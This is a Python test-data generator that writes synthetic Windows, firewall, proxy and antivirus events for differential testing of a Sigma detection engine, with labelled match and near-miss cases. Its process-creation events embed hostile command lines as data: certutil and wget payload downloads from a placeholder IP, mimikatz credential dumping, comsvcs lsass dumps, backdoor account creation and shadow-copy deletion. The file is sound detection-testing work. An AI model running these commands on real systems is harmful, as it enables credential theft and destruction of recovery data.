#!/usr/bin/env python3
"""Writes Tests/interop/data/sigma-events.ndjson, the event corpus the SOC module's Sigma engine is compared with the
reference on (test_sigma_differential.py). Deterministic: a fixed seed, no clock.

    Tests/interop/make_sigma_events.py [--out FILE] [--rules DIR ...] [--no-check]

For every bundled rule there are events that match it and near misses (a filter hits, a selection field is missing,
the wrong case where case matters, a number as text, a CIDR boundary...); further events exercise each point of
SIGMA_SEMANTICS.md, and the rest is realistic noise (Windows security and process-creation events, proxy, web server
and firewall logs, antivirus detections, ECS-style dotted fields). Each labelled event carries a `_case` field saying
why it is there; "quirk" marks a case where the reference differs from what a reader of the rule might expect.

After writing, the corpus is run through the reference (sigma_oracle.py) and every expectation written here is checked,
as is that every rule matches at least one event; --no-check skips that.
"""
import argparse
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", ".."))
RULES = os.path.join(ROOT, "Sources", "SecurityOperations", "Resources", "rules")
RULE_DIRS = [os.path.join(RULES, "sigmahq"), os.path.join(RULES, "local")]
OUT = os.path.join(HERE, "data", "sigma-events.ndjson")
SEED = 20261129
NOISE = 900
START = 1795996800  # 2026-12-01T00:00:00Z; events are spaced 47 s apart

CRITICAL_OUS = ["ou-001", "ou-017", "ou-042", "ou-108", "ou-199"]
OTHER_OUS = ["ou-%03d" % n for n in range(2, 231) if "ou-%03d" % n not in CRITICAL_OUS]
UNIT_NAMES = ["Phường Phú Xuân", "Phường Thuận Hóa", "Phường Vỹ Dạ", "Phường Kim Long", "Phường Hương Thủy",
              "Sở Thông tin và Truyền thông", "Trung tâm Giám sát, điều hành đô thị thông minh", "Xã Phú Vang"]
USERS = ["nguyen.van.an", "tran.thi.binh", "le.hoang.cuong", "pham.thu.dung", "hoang.minh.duc", "vo.thi.hoa",
         "dang.quoc.huy", "bui.thanh.lan"]
INTERNAL = ["10.20.%d.%d", "10.112.%d.%d", "172.18.%d.%d", "192.168.%d.%d"]
PUBLIC = ["192.0.2.%d", "198.51.100.%d"]  # documentation ranges the rules' watch lists leave alone (below .64)
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Microsoft-CryptoAPI/10.0",
    "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71",
]


class Corpus:
    def __init__(self, seed):
        self.rng = random.Random(seed)
        self.cases = []  # (event, note, {rule stem: expected match})

    # -- small random pieces ---------------------------------------------------------------------------------------
    def pick(self, items):
        return self.rng.choice(items)

    def internal_ip(self):
        return self.pick(INTERNAL) % (self.rng.randint(0, 254), self.rng.randint(1, 254))

    def public_ip(self):
        return self.pick(PUBLIC) % self.rng.randint(1, 62)

    def host(self, kind="WS"):
        return "HUE-%s-%04d" % (kind, self.rng.randint(1, 5661))

    def ou(self, critical=False):
        return self.pick(CRITICAL_OUS if critical else OTHER_OUS)

    def user(self):
        return self.pick(USERS)

    # -- event shapes ----------------------------------------------------------------------------------------------
    def unit(self, ou):
        return {"organization.id": ou or self.ou(), "organization.name": self.pick(UNIT_NAMES)}

    def security(self, event_id, ou=None, **fields):
        event = {"event.module": "windows", "Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing",
                 "EventID": event_id, "Computer": self.host() + ".hue.local"}
        event.update(self.unit(ou))
        event.update(fields)
        return event

    def process(self, image, command_line, ou=None, **fields):
        event = {"event.category": "process", "event.type": "start", "Channel": "Microsoft-Windows-Sysmon/Operational",
                 "EventID": 1, "Computer": self.host() + ".hue.local", "Image": image, "CommandLine": command_line}
        event.setdefault("ParentImage", r"C:\Windows\explorer.exe")
        event.update(self.unit(ou))
        event.update(fields)
        return event

    def antivirus(self, signature, filename=None, ou=None, **fields):
        event = {"event.kind": "alert", "event.category": "malware", "observer.product": "Microsoft Defender",
                 "host.name": self.host(), "Signature": signature,
                 "Filename": filename if filename is not None else r"C:\Users\%s\Downloads\setup.exe" % self.user(),
                 "event.action": "quarantined"}
        event.update(self.unit(ou))
        event.update(fields)
        return event

    def proxy(self, host, uri="/", method="GET", ua=None, dst_ip=None, ou=None, **fields):
        extension = uri.rsplit("/", 1)[-1].split("?")[0].rsplit(".", 1)[-1] if "." in uri.rsplit("/", 1)[-1] else ""
        event = {"event.category": "web", "observer.product": "Squid", "c-ip": self.internal_ip(), "cs-method": method,
                 "cs-host": host, "c-uri": uri, "c-uri-extension": extension,
                 "c-useragent": ua if ua is not None else self.pick(BROWSER_UAS),
                 "sc-status": 200, "dst_ip": dst_ip or self.public_ip(), "cs-bytes": self.rng.randint(200, 4000)}
        event.update(self.unit(ou))
        event.update(fields)
        return event

    def web(self, query, method="GET", status=200, ua=None, ou=None, **fields):
        event = {"event.category": "web", "observer.product": "Microsoft IIS", "s-sitename": "W3SVC1",
                 "c-ip": self.public_ip(), "cs-method": method, "cs-uri-query": query, "sc-status": status,
                 "cs-user-agent": ua if ua is not None else self.pick(BROWSER_UAS),
                 "cs-referer": "https://dichvucong.hue.gov.vn/", "cs-bytes": self.rng.randint(300, 9000)}
        event.update(self.unit(ou))
        event.update(fields)
        return event

    def firewall(self, action, src_ip, dst_ip, dst_port, ou=None, **fields):
        event = {"event.category": "network", "event.type": "denied" if action in ("deny", "drop", "reject") else "allowed",
                 "observer.product": "FortiGate", "action": action, "src_ip": src_ip,
                 "src_port": self.rng.randint(1025, 65535), "dst_ip": dst_ip, "dst_port": dst_port,
                 "network.transport": "tcp", "network.bytes": self.rng.randint(60, 90000)}
        event.update(self.unit(ou))
        event.update(fields)
        return event

    def signin(self, result_type, **fields):
        event = {"event.category": "authentication", "Category": "SignInLogs", "ResultType": result_type,
                 "UserPrincipalName": self.user() + "@hue.gov.vn", "IPAddress": self.public_ip(),
                 "AppDisplayName": "Office 365 Exchange Online"}
        event.update(fields)
        return event

    # -- recording -------------------------------------------------------------------------------------------------
    def add(self, event, note, **expect):
        """A labelled event: `expect` names rule file stems and whether the reference must match them."""
        self.cases.append((event, note, expect))

    def noise(self, event):
        self.cases.append((event, None, {}))


def labelled(c):
    """The events written for particular rules and semantic points."""
    # ---------------------------------------------------------------- antivirus
    c.add(c.antivirus("Backdoor:Win32/APT28.A!dha"), "match: re APT\\d", av_advanced_persistent_threat=True)
    c.add(c.antivirus("Trojan.Win64.Lazarus.gen"), "match: contains Lazar", av_advanced_persistent_threat=True)
    c.add(c.antivirus("trojan/turla.b"), "match: contains is case-insensitive (Turla)", av_advanced_persistent_threat=True)
    c.add(c.antivirus("Backdoor:Win32/apt28"), "miss: re APT\\d is case-sensitive", av_advanced_persistent_threat=False)
    c.add(c.antivirus("Generic.APT.Dropper"), "miss: APT without a digit, _ or -", av_advanced_persistent_threat=False)
    c.add(c.antivirus("Trojan:Win32/APT\u0663"), "quirk: \\d is Python's Unicode digit (ARABIC-INDIC THREE)",
          av_advanced_persistent_threat=True)
    c.add(c.antivirus("Charming\u212aitten.B"), "miss: KELVIN SIGN is not k, folding is ASCII-only",
          av_advanced_persistent_threat=False)
    c.add(c.antivirus("Backdoor.Win64.CobaltStrike.A"), "match: CobaltStr", av_exploitation_framework=True, av_hacktool=True)
    c.add(c.antivirus("HackTool:Win32/Meterpreter.A"), "match: Meterpreter", av_exploitation_framework=True)
    c.add(c.antivirus("Trojan.Cobalt.Gen"), "miss for exploitation (no CobaltStr), match for hacktool (Cobalt)",
          av_exploitation_framework=False, av_hacktool=True)
    c.add(c.antivirus("HKTL_NETSCAN.B"), "match: startswith HKTL", av_hacktool=True)
    c.add(c.antivirus("hktl_netscan.b"), "match: startswith is case-insensitive", av_hacktool=True)
    c.add(c.antivirus("PUA.Impacket.Gen"), "match: contains Impacket", av_hacktool=True)
    c.add(c.antivirus("Win.Tool.XHKTL"), "miss: HKTL not at the start", av_hacktool=False)
    c.add(c.antivirus("PWS:Win32/Lazagne"), "match: startswith PWS, contains Lazagne", av_password_dumper=True)
    c.add(c.antivirus("pws.agent"), "match: startswith PWS ignores case", av_password_dumper=True)
    c.add(c.antivirus("Trojan.Rubeus.A"), "match: contains Rubeus", av_password_dumper=True)
    c.add(c.antivirus("Win32.XPWS"), "miss: PWS not at the start", av_password_dumper=False)
    c.add(c.antivirus("Ransom:Win32/LockBit.A"), "match: contains Ransom and Lockbit", av_ransomware=True)
    c.add(c.antivirus("RANSOM:WIN32/GENERIC"), "match: upper case", av_ransomware=True)
    c.add(c.antivirus("Trojan:Win32/Lockbi"), "miss: Lockbi", av_ransomware=False)
    c.add(c.antivirus("Ran\u017fom:Win32/X"), "miss: LATIN SMALL LONG S is not s, folding is ASCII-only", av_ransomware=False)
    c.add(c.antivirus("Trojan:Win32/Emotet", r"C:\Users\Public\payload.dll"), "match: path contains :\\Users\\Public\\",
          av_relevant_files=True)
    c.add(c.antivirus("Trojan:Win32/Emotet", r"D:\data\evil.PS1"), "match: endswith .ps1 ignores case", av_relevant_files=True)
    c.add(c.antivirus("Trojan:Win32/Emotet", "/var/www/html/up.php"), "match: /www/ and .php", av_relevant_files=True)
    c.add(c.antivirus("Trojan:Win32/Emotet", r"C:\Program Files\App\app.dll"), "miss: neither path nor extension",
          av_relevant_files=False)
    c.add(c.antivirus("Backdoor:MSIL/AsyncRAT.B"), "match: AsyncRAT", av_remote_access_toolkit=True)
    c.add(c.antivirus("Backdoor:MSIL/AsyncRA"), "miss: AsyncRA", av_remote_access_toolkit=False)
    c.add(c.antivirus("Backdoor:PHP/Chopper.A"), "match: Backdoor:PHP... contains Chopper", av_webshell=True)
    c.add(c.antivirus("PHP.Webshell.Gen"), "match: startswith PHP.", av_webshell=True)
    c.add(c.antivirus("PHP-Shell.Gen"), "miss: PHP- is none of the prefixes", av_webshell=False)

    # ---------------------------------------------------------------- Azure sign-in, FortiGate
    c.add(c.signin(50053, ResultDescription="Account is locked"), "match: number", azure_account_lockout=True)
    c.add(c.signin("50053"), "match: rule number, same digits as text", azure_account_lockout=True)
    c.add(c.signin(50053.0), "match: 50053.0 is stored as the integer 50053", azure_account_lockout=True)
    c.add(c.signin("050053"), "quirk: text that reads as a number is that number (050053 = 50053)", azure_account_lockout=True)
    c.add(c.signin("50053 "), "quirk: surrounding spaces are dropped when text reads as a number", azure_account_lockout=True)
    c.add(c.signin("5.0053e4"), "quirk: an exponent too (5.0053e4 = 50053)", azure_account_lockout=True)
    c.add(c.signin("0xC39E"), "miss: hex text is text", azure_account_lockout=False)
    c.add(c.signin(50126), "miss: another result", azure_account_lockout=False)
    c.add(c.signin(500121, AuthenticationRequirement="multiFactorAuthentication",
                   Status="MFA denied; user declined the authentication"),
          "match: contains ignores case", azure_mfa_denies=True)
    c.add(c.signin(500121, AuthenticationRequirement="MULTIFACTORAUTHENTICATION", Status="MFA Denied"),
          "match: equality ignores case", azure_mfa_denies=True)
    c.add(c.signin(500121, AuthenticationRequirement="singleFactorAuthentication", Status="MFA denied"),
          "miss: single factor", azure_mfa_denies=False)
    c.add(c.signin(500121, AuthenticationRequirement="multiFactorAuthentication"), "miss: no Status",
          azure_mfa_denies=False)
    forti = {"logid": "0100044547", "type": "event", "subtype": "system", "devname": "FGT-HUE-CORE",
             "cfgobj": "helpdesk2", "ui": "GUI(192.0.2.77)"}
    c.add(dict(forti, action="Add", cfgpath="system.admin"), "match", fortinet_fortigate_new_admin_account_created=True)
    c.add(dict(forti, action="add", cfgpath="SYSTEM.ADMIN"), "match: case", fortinet_fortigate_new_admin_account_created=True)
    c.add(dict(forti, action="Edit", cfgpath="system.admin"), "miss: Edit", fortinet_fortigate_new_admin_account_created=False)
    c.add(dict(forti, action="Add", cfgpath="system.admin.settings"), "miss: equality, not a prefix",
          fortinet_fortigate_new_admin_account_created=False)

    # ---------------------------------------------------------------- firewall
    fw = c.firewall
    c.add(fw("accept", c.internal_ip(), c.public_ip(), 21), "match: ftp accepted", net_firewall_cleartext_protocols=True)
    c.add(fw("deny", c.internal_ip(), c.public_ip(), "23", blocked=False),
          "match: port as text, blocked false stored as 'false'", net_firewall_cleartext_protocols=True)
    c.add(fw(2, c.internal_ip(), c.public_ip(), 3306), "match: action 2 as a number", net_firewall_cleartext_protocols=True)
    c.add(fw("2", c.internal_ip(), c.public_ip(), 8080), "match: rule number 2, action '2' as text",
          net_firewall_cleartext_protocols=True)
    c.add(fw("close", c.internal_ip(), c.public_ip(), 5900, blocked="FALSE"), "match: blocked 'FALSE' ignores case",
          net_firewall_cleartext_protocols=True)
    c.add(fw("accept", c.internal_ip(), c.public_ip(), 22), "miss: ssh", net_firewall_cleartext_protocols=False)
    c.add(fw("close", c.internal_ip(), c.public_ip(), 80, blocked=True), "miss: blocked true, action close",
          net_firewall_cleartext_protocols=False)
    c.add(fw("close", c.internal_ip(), c.public_ip(), 80, blocked=0), "miss: blocked 0 is not 'false'",
          net_firewall_cleartext_protocols=False)
    # soc_fw_deny_privileged_port_external: deny/drop/reject, dst_port < 1024, source not private nor the scanner
    c.add(fw("deny", "192.0.2.9", "10.20.1.5", 22), "match", soc_fw_deny_privileged_port_external=True)
    c.add(fw("DROP", "192.0.2.10", "10.20.1.5", 1023), "match: upper bound 1023, action case", soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "192.0.2.11", "10.20.1.5", 1024), "miss: 1024 is not < 1024", soc_fw_deny_privileged_port_external=False)
    c.add(fw("reject", "192.0.2.12", "10.20.1.5", "443"), "match: port as text compares as a number",
          soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "192.0.2.13", "10.20.1.5", "https"), "quirk: text never compares below a number (lt false)",
          soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "10.1.1.1", "10.20.1.5", 445), "miss: source in 10/8", soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "172.16.0.0", "10.20.1.5", 445), "miss: first address of 172.16/12", soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "172.31.255.255", "10.20.1.5", 445), "miss: last address of 172.16/12", soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "172.15.255.255", "10.20.1.5", 445), "match: just below 172.16/12", soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "172.32.0.0", "10.20.1.5", 445), "match: just above 172.16/12", soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "192.168.255.255", "10.20.1.5", 445), "miss: 192.168/16", soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "198.51.100.7", "10.20.1.5", 443), "miss: the contracted scanner", soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "198.51.100.8", "10.20.1.5", 443), "match: next to the scanner", soc_fw_deny_privileged_port_external=True)
    event = fw("deny", "x", "10.20.1.5", 25)
    del event["src_ip"]
    c.add(event, "match: no src_ip, the negated filter does not remove it", soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "10.1.2.3:51000", "10.20.1.5", 25), "quirk: cidr is a text prefix: '10.1.2.3:51000' is in 10/8",
          soc_fw_deny_privileged_port_external=False)
    c.add(fw("deny", "010.1.2.3", "10.20.1.5", 25), "match: '010.1.2.3' is not in 10/8 (no text prefix '10.', and no strict parser reads it)",
          soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "::ffff:10.1.2.3", "10.20.1.5", 25), "match: an IPv4-mapped IPv6 address is not in 10/8",
          soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "192.0.2.14", "10.20.1.5", -1), "match: negative port", soc_fw_deny_privileged_port_external=True)
    c.add(fw("deny", "192.0.2.15", "10.20.1.5", None), "miss: null port", soc_fw_deny_privileged_port_external=False)
    # soc_fw_large_outbound_transfer: accept/allow/forward, network.bytes >= 5e8, dst_port > 1024
    big = {"network.direction": "outbound"}
    c.add(fw("allow", "10.20.3.4", "192.0.2.200", 8443, **dict(big, **{"network.bytes": 500000000})),
          "match: exactly 500000000", soc_fw_large_outbound_transfer=True)
    c.add(fw("accept", "10.20.3.4", "192.0.2.200", 8443, **dict(big, **{"network.bytes": 499999999})),
          "miss: one byte short", soc_fw_large_outbound_transfer=False)
    c.add(fw("forward", "10.20.3.4", "192.0.2.200", 1024, **dict(big, **{"network.bytes": 900000000})),
          "miss: port 1024 is not > 1024", soc_fw_large_outbound_transfer=False)
    c.add(fw("forward", "10.20.3.4", "192.0.2.200", 1025, **dict(big, **{"network.bytes": "750000000"})),
          "match: bytes as text", soc_fw_large_outbound_transfer=True)
    c.add(fw("allow", "10.20.3.4", "192.0.2.200", 50000, **dict(big, **{"network.bytes": 5e8})),
          "match: bytes as 500000000.0", soc_fw_large_outbound_transfer=True)
    c.add(fw("allow", "10.20.3.4", "192.0.2.200", 50001, **dict(big, **{"network.bytes": "1e9"})),
          "quirk: '1e9' reads as the number 1000000000", soc_fw_large_outbound_transfer=True)
    c.add(fw("allow", "10.20.3.4", "192.0.2.200", "ephemeral", **dict(big, **{"network.bytes": 600000000})),
          "quirk: text port 'ephemeral' is greater than any number (gt true)", soc_fw_large_outbound_transfer=True)
    event = fw("allow", "10.20.3.4", "192.0.2.200", 8443, **big)
    del event["network.bytes"]
    event["Network.Bytes"] = 600000000
    c.add(event, "match: dotted field name in another case", soc_fw_large_outbound_transfer=True)
    c.add(fw("allow", "10.20.3.4", "192.0.2.200", 8443, **dict(big, **{"network.bytes": 99999999999999999999})),
          "match: an integer past int64 becomes a real", soc_fw_large_outbound_transfer=True)
    event = fw("allow", "10.20.3.4", "192.0.2.200", 8443, **big)
    del event["network.bytes"]
    event["network_bytes"] = 600000000
    c.add(event, "miss: network_bytes is another field (dots are literal)", soc_fw_large_outbound_transfer=False)
    c.add(fw("deny", "10.20.3.4", "192.0.2.200", 8443, **dict(big, **{"network.bytes": 600000000})),
          "miss: denied", soc_fw_large_outbound_transfer=False)

    # ---------------------------------------------------------------- process creation
    p = c.process
    c.add(p(r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.50/a.txt a.exe"),
          "match", proc_creation_win_certutil_download=True)
    c.add(p(r"C:\Users\Public\cu.exe", "cu -verifyctl -f -split HTTPS://192.0.2.50/b.exe", OriginalFileName="certutil.exe"),
          "match: renamed, OriginalFileName equality ignores case", proc_creation_win_certutil_download=True)
    c.add(p(r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f ftp://192.0.2.50/a.exe"),
          "miss: no http", proc_creation_win_certutil_download=False)
    c.add(p(r"C:\Windows\System32\certutil.exe", "certutil.exe -decode in.b64 out.exe"),
          "miss: decode", proc_creation_win_certutil_download=False)
    c.add(p(r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache http://192.0.2.50/a.exe"),
          "match: 'urlcache ' with its space", proc_creation_win_certutil_download=True)
    c.add(p(r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache\thttp://192.0.2.50/a.exe"),
          "miss: a tab is not the space in 'urlcache '", proc_creation_win_certutil_download=False)
    c.add(p(r"C:\Tools\x64\mimikatz.exe", r'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
          "match", proc_creation_win_hktl_mimikatz_command_line=True)
    c.add(p(r"C:\Temp\m.exe", "m.exe LSADUMP::DCSYNC /user:krbtgt"), "match: upper case module",
          proc_creation_win_hktl_mimikatz_command_line=True)
    c.add(p(r"C:\Temp\m.exe", "m.exe sekurlsa:logonpasswords"), "miss: one colon",
          proc_creation_win_hktl_mimikatz_command_line=False)
    c.add(p(r"C:\Temp\m.exe", "m.exe m\u0131m\u0131katz"), "miss: dotless i is not i (ASCII folding)",
          proc_creation_win_hktl_mimikatz_command_line=False)
    c.add(p(r"C:\Windows\System32\net.exe", "net user hacker P@ssw0rd! /add"), "match", proc_creation_win_net_user_add=True)
    c.add(p(r"C:\WINDOWS\SYSTEM32\NET1.EXE", "NET1 USER svc_backup Passw0rd /ADD /DOMAIN"), "match: upper case",
          proc_creation_win_net_user_add=True)
    c.add(p(r"C:\Windows\System32\net.exe", "net user hacker"), "miss: contains|all, no add",
          proc_creation_win_net_user_add=False)
    c.add(p(r"C:\Windows\System32\net.exe", "net localgroup administrators hacker /add"), "miss: contains|all, no user",
          proc_creation_win_net_user_add=False)
    c.add(p(r"C:\Tools\netx.exe", "netx user hacker /add"), "miss: another image",
          proc_creation_win_net_user_add=False)
    c.add(p(r"C:\Tools\n.exe", "n user hacker /add", OriginalFileName="net1.exe"), "match: OriginalFileName",
          proc_creation_win_net_user_add=True)
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    c.add(p(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -w hidden -c iex", ParentImage=word),
          "match", proc_creation_win_office_susp_child_processes=True)
    c.add(p(r"C:\Users\an\AppData\Local\Temp\inv.exe", "inv.exe",
            ParentImage=r"c:\program files\microsoft office\root\office16\excel.exe"),
          "match: AppData path, lower-case parent", proc_creation_win_office_susp_child_processes=True)
    c.add(p(r"C:\Temp\renamed.exe", "renamed.exe", ParentImage=word, OriginalFileName="mshta.exe"),
          "match: OriginalFileName ignores case", proc_creation_win_office_susp_child_processes=True)
    c.add(p(r"C:\Windows\System32\cmd.exe", "cmd /c dir", ParentImage=r"C:\Windows\explorer.exe"),
          "miss: parent explorer", proc_creation_win_office_susp_child_processes=False)
    c.add(p(r"C:\Program Files\Adobe\Acrobat DC\Acrobat.exe", "Acrobat.exe doc.pdf", ParentImage=word),
          "miss: benign child", proc_creation_win_office_susp_child_processes=False)
    c.add(p(r"C:\Windows\System32\PING.EXE", "ping 0x7f000001"), "match", proc_creation_win_ping_hex_ip=True)
    c.add(p(r"C:\Windows\System32\PING.EXE", "PING 0X7F000001"), "miss: re is case-sensitive (0X)",
          proc_creation_win_ping_hex_ip=False)
    c.add(p(r"C:\Windows\System32\PING.EXE", "ping 0x7f0001"), "miss: six hex digits", proc_creation_win_ping_hex_ip=False)
    c.add(p(r"C:\Windows\System32\PING.EXE", "ping -n 1 0xC0A80001FF"), "match: re searches, not a full match",
          proc_creation_win_ping_hex_ip=True)
    pwsh = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    c.add(p(pwsh, "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA="), "match",
          proc_creation_win_powershell_base64_encoded_cmd=True)
    c.add(p(r"C:\Temp\ps.exe", "ps.exe -ENCOD SQBFAFgAIAAoAE4AZQB3AA==", OriginalFileName="PowerShell.EXE"),
          "match: standalone '.exe -ENCOD '", proc_creation_win_powershell_base64_encoded_cmd=True)
    c.add(p(pwsh, "powershell.exe -ExecutionPolicy remotesigned -e JABzAD0A"), "miss: the optional filter",
          proc_creation_win_powershell_base64_encoded_cmd=False)
    c.add(p(pwsh, "powershell.exe -ExecutionPolicy RemoteSigned -e JABzAD0A"), "miss: the filter ignores case",
          proc_creation_win_powershell_base64_encoded_cmd=False)
    c.add(p(pwsh, "powershell.exe -e Get-Process"), "miss: no base64 marker",
          proc_creation_win_powershell_base64_encoded_cmd=False)
    rundll = r"C:\Windows\System32\rundll32.exe"
    c.add(p(rundll, r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full"), "match",
          proc_creation_win_rundll32_process_dump_via_comsvcs=True)
    c.add(p(r"C:\Temp\r.exe", r"r.exe comsvcs.dll #24 624 C:\temp\out.dmp full"), "match: generic selection",
          proc_creation_win_rundll32_process_dump_via_comsvcs=True)
    c.add(p(rundll, r"rundll32.exe comsvcs.dll MiniDump 624 C:\temp\out.dmp"), "miss: no 'full'",
          proc_creation_win_rundll32_process_dump_via_comsvcs=False)
    sch = r"C:\Windows\System32\schtasks.exe"
    c.add(p(sch, r'schtasks.exe /create /sc minute /tn "Updater" /tr C:\Users\Public\u.exe', User="HUE\\tran.thi.binh"),
          "match", proc_creation_win_schtasks_creation=True)
    c.add(p(sch, "schtasks.exe /create /tn x /tr y"), "match: no User, the negated filter does not remove it",
          proc_creation_win_schtasks_creation=True)
    c.add(p(sch, "schtasks.exe /create /tn x /tr y", User="NT AUTHORITY\\SYSTEM"), "miss: system user",
          proc_creation_win_schtasks_creation=False)
    c.add(p(sch, "schtasks.exe /create /tn x /tr y", User="AUTORITE NT\\Syst\u00e8me"), "miss: French AUTORI",
          proc_creation_win_schtasks_creation=False)
    office_parent = r"C:\Program Files\Microsoft Office\root\integration\integrator.exe"
    office_cli = r'schtasks.exe /create /xml "C:\ProgramData\x.xml" /tn "Microsoft\Office\Office Performance Monitor" /f'
    c.add(p(sch, office_cli, ParentImage=office_parent, User="HUE\\an"), "miss: the Office filter",
          proc_creation_win_schtasks_creation=False)
    c.add(p(sch.upper(), office_cli, ParentImage=office_parent.lower(), User="HUE\\an"),
          "miss: the Office filter's equalities ignore case", proc_creation_win_schtasks_creation=False)
    c.add(p(sch, office_cli, ParentImage=r"C:\Program Files\Microsoft Office\root\integration\integrator2.exe", User="HUE\\an"),
          "match: parent differs, filter is an AND", proc_creation_win_schtasks_creation=True)
    c.add(p(sch, "schtasks.exe /query /tn x"), "miss: no /create", proc_creation_win_schtasks_creation=False)
    c.add(p(r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"), "match",
          proc_creation_win_susp_shadow_copies_deletion=True)
    c.add(p(r"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog -quiet"), "match: wbadmin",
          proc_creation_win_susp_shadow_copies_deletion=True)
    c.add(p(r"C:\Windows\System32\vssadmin.exe", "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB"),
          "match: resize, /MaxSize= ignores case", proc_creation_win_susp_shadow_copies_deletion=True)
    c.add(p(r"C:\Windows\System32\vssadmin.exe", "vssadmin list shadows"), "miss: list",
          proc_creation_win_susp_shadow_copies_deletion=False)
    c.add(p(r"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog"), "miss: no quiet",
          proc_creation_win_susp_shadow_copies_deletion=False)
    wget = r"C:\Tools\wget.exe"
    c.add(p(wget, r"wget.exe http://192.0.2.66/a.ps1 -O C:\Users\Public\a.ps1"), "match",
          proc_creation_win_wget_download_direct_ip=True)
    c.add(p(wget, 'wget --output-document=x.exe "http://192.0.2.66/x.exe"'), "match: --output-document, ends with .exe\"",
          proc_creation_win_wget_download_direct_ip=True)
    c.add(p(wget, r"wget.exe http://192.0.2.66/a.ps1 -o C:\Users\Public\a.ps1"), "miss: re \\s-O\\s is case-sensitive",
          proc_creation_win_wget_download_direct_ip=False)
    c.add(p(wget, r"wget.exe http://files.example.org/a.ps1 -O a.ps1"), "miss: a host name, not an address",
          proc_creation_win_wget_download_direct_ip=False)
    c.add(p(wget, "wget.exe http://192.0.2.66/a.ps1 -O\u00a0a.ps1"),
          "quirk: \\s is Unicode whitespace in Python re (a NO-BREAK SPACE after -O)",
          proc_creation_win_wget_download_direct_ip=True)
    who = r"C:\Windows\System32\whoami.exe"
    c.add(p(who, "whoami /all", User="NT AUTHORITY\\SYSTEM"), "match", proc_creation_win_whoami_execution_from_high_priv_process=True)
    c.add(p(who, "whoami", User="NT SERVICE\\TrustedInstaller"), "match: TrustedInstaller",
          proc_creation_win_whoami_execution_from_high_priv_process=True)
    c.add(p(who, "whoami", User="HUE\\le.hoang.cuong"), "miss: ordinary user",
          proc_creation_win_whoami_execution_from_high_priv_process=False)
    c.add(p(who, "whoami"), "miss: no User, a positive selection on a missing field",
          proc_creation_win_whoami_execution_from_high_priv_process=False)
    c.add({"Channel": "Microsoft-Windows-Sysmon/Operational", "eventid": 1, "image": who, "commandline": "whoami",
           "user": "nt authority\\system", "organization.id": c.ou()},
          "match: every field name in lower case", proc_creation_win_whoami_execution_from_high_priv_process=True)
    c.add({"Channel": "Microsoft-Windows-Sysmon/Operational", "EVENTID": 1, "IMAGE": who.upper(), "COMMANDLINE": "WHOAMI",
           "USER": "NT AUTHORITY\\SYSTEM", "ORGANIZATION.ID": c.ou()},
          "match: every field name in upper case", proc_creation_win_whoami_execution_from_high_priv_process=True)

    # ---------------------------------------------------------------- proxy
    px = c.proxy
    c.add(px("cdn.evil.top", "/dl/update.exe"), "match", proxy_download_susp_tlds_blacklist=True)
    c.add(px("files.SOMETHING.XYZ", "/x/ARCHIVE.ZIP"), "match: case", proxy_download_susp_tlds_blacklist=True)
    c.add(px("download.hue.gov.vn", "/bieu-mau/to-khai.doc"), "match: .vn is on the list (local false positive)",
          proxy_download_susp_tlds_blacklist=True)
    c.add(px("download.hue.gov.vn", "/bieu-mau/to-khai.pdf"), "miss: pdf", proxy_download_susp_tlds_blacklist=False)
    c.add(px("top.example.com", "/a.exe"), "miss: top is not the TLD", proxy_download_susp_tlds_blacklist=False)
    c.add(px("cdn.evil.top", "/dl/update", **{"c-uri-extension": ""}), "miss: empty extension",
          proxy_download_susp_tlds_blacklist=False)
    cs_ua = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
    c.add(px("www.amazon.com", "/N4215/adj/amzn.us.sr.aps", "POST", cs_ua), "match: amazon profile",
          proxy_hktl_cobalt_strike_malleable_c2_requests=True)
    c.add(px("www.amazon.com", "/N4215/adj/amzn.us.sr.aps", "GET", cs_ua), "miss: GET",
